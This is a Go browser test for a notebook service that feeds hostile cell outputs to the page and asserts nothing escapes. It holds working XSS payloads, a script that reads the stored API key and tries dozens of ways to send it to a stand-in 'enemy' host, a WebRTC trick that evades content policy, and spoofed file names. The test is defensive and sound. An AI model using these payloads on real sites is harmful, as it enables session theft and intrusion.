package server

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/require"

	"notebox/runner"
	"notebox/tests/browser"
)

// enemy is a host of another's, which counts who comes.
type enemy struct {
	address         string // host:port
	visits, packets atomic.Int64
}

func newEnemy(t *testing.T) *enemy {
	t.Helper()
	tcp, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { _ = tcp.Close() })
	e := &enemy{address: tcp.Addr().String()}
	udp, err := net.ListenPacket("udp", e.address)
	require.NoError(t, err)
	t.Cleanup(func() { _ = udp.Close() })
	go func() {
		for {
			conn, err := tcp.Accept()
			if err != nil {
				return
			}
			e.visits.Add(1)
			_ = conn.Close()
		}
	}()
	go func() {
		for {
			if _, _, err := udp.ReadFrom(make([]byte, 1500)); err != nil {
				return
			}
			e.packets.Add(1)
		}
	}()
	return e
}

// attack is a script that tries all ways out of where it runs. Each is by itself, since most throw.
func (e *enemy) attack() string {
	return strings.ReplaceAll(`
	const key = (() => { try { return sessionStorage.getItem("notebox.key"); } catch { return "none"; } })();
	const url = "http://ENEMY/" + key;
	const add = (tag, set) => { const e = document.createElement(tag); Object.assign(e, set); document.documentElement.append(e); return e; };
	for (const way of [
		() => { parent.pwned = true; }, () => { top.pwned = true; }, () => { parent.document.title = "pwned"; },
		() => { parent.sessionStorage.setItem("pwned", "1"); }, () => { localStorage.pwned = "1"; }, () => { document.cookie = "pwned=1"; },
		() => fetch(url, { mode: "no-cors" }), () => navigator.sendBeacon(url), () => new WebSocket("ws://ENEMY/"), () => new EventSource(url),
		() => { new Image().src = url; }, () => import(url), () => new Worker(url), () => add("script", { src: url }),
		() => new Worker(URL.createObjectURL(new Blob(["fetch('" + url + "', { mode: 'no-cors' })"]))),
		() => add("link", { rel: "stylesheet", href: url }), () => add("link", { rel: "prefetch", href: url }), () => add("link", { rel: "preload", as: "script", href: url }),
		() => add("link", { rel: "icon", href: url }),
		() => add("iframe", { src: url }), () => add("iframe", { srcdoc: "<img src='" + url + "'><script>fetch('" + url + "')<\/script>" }),
		() => add("object", { data: url }), () => add("embed", { src: url }), () => add("video", { src: url, autoplay: true }),
		() => { const f = add("form", { action: url, method: "post" }); f.submit(); },
		() => window.open(url), () => { const a = add("a", { href: url, ping: url }); a.click(); }, () => { const a = add("a", { href: url, target: "_top" }); a.click(); },
		() => { top.location = url; }, () => { parent.location = url; },
		() => fetch("SERVICE/v1/execute", { method: "POST", body: "{}", headers: { Authorization: "Bearer " + key } }),
		() => { for (let i = 0; i < 50; i++) parent.postMessage({ height: 1e9, html: "<script>pwned = true<\/script>" }, "*"); },
		() => { document.body.append("attacked"); },
		() => setTimeout(() => { location = url; }, 1500),
	]) { try { const later = way(); later?.catch?.(() => {}); } catch {} }`, "ENEMY", e.address)
}

// quiet is a script that reaches another host without a request of HTTP, so that no policy of
// contents holds it. It does nothing else, which could end it.
func (e *enemy) quiet() string {
	return strings.ReplaceAll(`
	const call = (Peer) => { const peer = new Peer({ iceServers: [{ urls: "stun:ENEMY" }] });
		peer.createDataChannel("x"); peer.createOffer().then((o) => peer.setLocalDescription(o)); };
	const add = (tag, set) => { const e = document.createElement(tag); Object.assign(e, set); document.documentElement.append(e); return e; };
	for (const way of [
		() => call(RTCPeerConnection), () => call(add("iframe", {}).contentWindow.RTCPeerConnection),
		() => add("iframe", { srcdoc: "<script>(" + call + ")(RTCPeerConnection)<\/script>" }),
		() => add("link", { rel: "preconnect", href: "http://ENEMY/" }), () => add("link", { rel: "dns-prefetch", href: "http://ENEMY/" }),
	]) { try { way(); } catch {} }`, "ENEMY", e.address)
}

// TestHostileOutputs: what code puts out reaches neither the page, nor its key, nor another
// host, whatever form it has.
func TestHostileOutputs(t *testing.T) {
	t.Parallel()
	keys, err := NewKeys("key-of-a-person")
	require.NoError(t, err)
	s := newService(t, func(cfg *Config) { cfg.Keys = keys })
	e := newEnemy(t)
	attack := strings.ReplaceAll(e.attack(), "SERVICE", s.url)
	inPage := "window.pwned = true; " + strings.ReplaceAll(attack, `"`, "&quot;")
	html := func(text string) string { return display(map[string]any{"text/html": text}) }
	link := fmt.Sprintf("http://%s/", e.address)
	plot := map[string]any{
		"data":   []any{map[string]any{"type": "scatter", "y": []int{1, 2}, "text": []string{"<img src=x onerror='" + inPage + "'>", "b"}, "name": "<a href='javascript:" + inPage + "'>x</a>"}},
		"layout": map[string]any{"title": map[string]any{"text": "<img src='" + link + "' onerror='window.pwned=true'><a href='javascript:parent.pwned=true'>a</a>"}, "images": []any{map[string]any{"source": link, "sizex": 1, "sizey": 1}}},
		"config": map[string]any{"plotlyServerURL": link, "topojsonURL": link},
	}
	outputs := map[string]string{
		"script":        html("<p>before</p><script>" + attack + "</script>"),
		"quiet":         html("<p>quiet</p><script>" + e.quiet() + "</script>"),
		"handler":       html(`<img src="x" onerror="` + inPage + `"><svg onload="` + inPage + `"></svg>`),
		"refresh":       html(`<meta http-equiv="refresh" content="0;url=` + link + `"><p>x</p>`),
		"base":          html(`<base href="` + link + `"><img src="a.png"><link rel="stylesheet" href="a.css"><style>@import "` + link + `"; p { background: url(` + link + `) }</style><p>x</p>`),
		"frame":         html(`<iframe src="` + link + `"></iframe><iframe srcdoc="<script>parent.parent.pwned=true;fetch('` + link + `')</script>"></iframe>`),
		"plain table":   html(`<table><tr><td><a href="javascript:window.pwned=true" title="x">go</a></td><td id="status" class="status">x</td></tr></table>`),
		"plain picture": html(`<table><tr><td>` + strings.Repeat("x", 10) + `</td></tr></table><a href="` + link + `">link</a>`),
		"markdown": display(map[string]any{"text/markdown": "# md\n<script>window.pwned=true</script><img src=x onerror='window.pwned=true'> [a](javascript:window.pwned=true) " +
			"![b](" + link + "b.png) <iframe src='" + link + "'></iframe> $\\href{javascript:window.pwned=true}{x}$ $\\includegraphics{" + link + "}$ <form action='" + link + "'><input name=a></form>"}),
		"latex":     display(map[string]any{"text/latex": `$\href{javascript:window.pwned=true}{x} \htmlId{status}{y} \includegraphics{` + link + `}$`}),
		"svg":       display(map[string]any{"image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="parent.pwned=true"><script>` + strings.ReplaceAll(strings.ReplaceAll(attack, "&", "&amp;"), "<", "&lt;") + `</script><image href="` + link + `" width="9" height="9"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="` + link + `"/></foreignObject></svg>`}),
		"plotly":    display(map[string]any{"application/vnd.plotly.v1+json": plot}),
		"plain":     display(map[string]any{"text/plain": "<script>window.pwned=true</script>"}),
		"stream":    stdout("<script>window.pwned=true</script>\x1b]8;;javascript:window.pwned=true\x07x\n"),
		"traceback": raised("<img src=x onerror=window.pwned=true>", "<script>window.pwned=true</script> Cell In[1], line 1<b>"),
	}
	var all []string
	for _, output := range outputs {
		all = append(all, output)
	}
	s.run = func(ctx context.Context, spec runner.Spec, events runner.Sink) (*runner.Outcome, error) {
		for _, output := range all {
			events.Output(runner.Event{Kind: runner.EventOutput, Output: json.RawMessage(output)})
		}
		for _, name := range []string{`<img src=x onerror=window.pwned=true>.txt`, "gpj\u202e.exe", `"><script>window.pwned=true<.csv`} {
			if err := events.File(ctx, name, strings.NewReader("<script>window.pwned=true</script>,\"<img src=x onerror=window.pwned=true>\"\n")); err != nil {
				return nil, err
			}
		}
		return executed(spec, runner.StatusError, all...), nil
	}
	b := browser.New(t, 1280, 4000) // all frames are in sight, so they are loaded
	b.Do(chromedp.Navigate(s.url + "/"))
	b.Until(`document.querySelector("#api-key") !== null`)
	b.Do(chromedp.SendKeys(chromedp.CSS("#api-key"), "key-of-a-person\r"))
	b.Until(`document.querySelector("#run:not(:disabled)") !== null`)
	before := len(s.started())
	press(b, "run")
	untilStatus(b, "The code raised an error")
	b.Until(`document.querySelectorAll("iframe").length >= 6`)
	browser.Eval[bool](b, `document.querySelectorAll("#made details").forEach((d) => { d.open = true; }), true`)
	b.Until(`document.querySelectorAll("#made table td, #made table th, #made pre").length > 0`)
	time.Sleep(5 * time.Second) // what the attacks began has had its time

	require.Equal(t, "null", browser.Eval[string](b, `String(window.pwned ?? null)`))
	require.Equal(t, "notebox", browser.Eval[string](b, `document.title`))
	require.Equal(t, s.url+"/", browser.Eval[string](b, `location.href`))
	require.Equal(t, []string{"notebox.key"}, browser.Eval[[]string](b, `Object.keys(sessionStorage).filter((k) => k !== "notebox.draft")`))
	require.NotContains(t, browser.Eval[[]string](b, `Object.keys(localStorage)`), "pwned")
	require.Zero(t, browser.Eval[int](b, `document.querySelectorAll("main script, main form, main object, main embed, main meta, main base, main svg:not(.katex *), main [onerror], main [onload], main [style*=url]").length`))
	require.Equal(t, 1, browser.Eval[int](b, `document.querySelectorAll("#status").length`))
	require.Zero(t, browser.Eval[int](b, `[...document.querySelectorAll("main a[href], main img[src], main iframe")].filter((e) => /^javascript:/i.test(e.href ?? "") || (e.localName !== "a" && !/^(data:|blob:|`+strings.ReplaceAll(s.url, "/", `\/`)+`)/.test(e.src))).length`))
	require.Zero(t, browser.Eval[int](b, `[...document.querySelectorAll("iframe")].filter((f) => f.getAttribute("sandbox") !== "allow-scripts" || f.height > 2000).length`))
	require.NotContains(t, browser.Eval[string](b, `document.querySelector("#made").innerText`), "\u202e")
	require.Len(t, s.started(), before+1, "a frame has run code")
	require.Zero(t, e.visits.Load(), "another host was reached")
	require.Zero(t, e.packets.Load(), "another host was reached by WebRTC")
	for _, address := range b.Requests() { // also of those that the browser has refused
		require.NotContains(t, address, "key-of-a-person")
	}

	// Where nothing holds it, the same code does reach the other host.
	b.Do(chromedp.Navigate("data:text/html,<p>x"))
	browser.Eval[bool](b, fmt.Sprintf(`(() => { %s; new Image().src = "http://%s/"; return true; })()`, e.quiet(), e.address))
	require.Eventually(t, func() bool { return e.visits.Load() > 0 }, 20*time.Second, 50*time.Millisecond)
	require.Eventually(t, func() bool { return e.packets.Load() > 0 }, 20*time.Second, 50*time.Millisecond)
}
